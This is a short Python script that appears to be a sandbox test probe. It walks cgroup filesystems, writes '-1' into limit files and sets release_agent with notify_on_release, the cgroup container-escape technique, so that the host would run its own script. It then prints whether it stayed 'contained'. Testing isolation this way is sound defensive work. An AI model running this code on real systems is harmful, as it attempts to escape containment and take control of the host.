# tries: raise its own limits, leave its control group, and have the host run a program when a group is empty
# must: accepted
import os
import time

until = time.monotonic() + 1.5  # on a busy machine a walk of all there is takes longer than there is time
got = []
for root in ("/sys/fs/cgroup", "/cgroup", "/proc/1/root/sys/fs/cgroup", "/run/cgroup"):
    for folder, folders, names in os.walk(root):
        if time.monotonic() > until:
            break
        if folder.count("/") > 7:
            folders.clear()
        for name in names:
            path = f"{folder}/{name}"
            try:
                handle = os.open(path, os.O_WRONLY)
            except OSError:
                continue
            got.append(path)
            try:
                os.write(handle, {"release_agent": b"/box/work/main.py", "notify_on_release": b"1"}.get(name, b"-1"))
                got.append(path + " written")
            except OSError:
                pass
        try:
            os.mkdir(folder + "/mine")
            got.append(folder + "/mine")
        except OSError:
            pass
print(got[:20] or "contained")
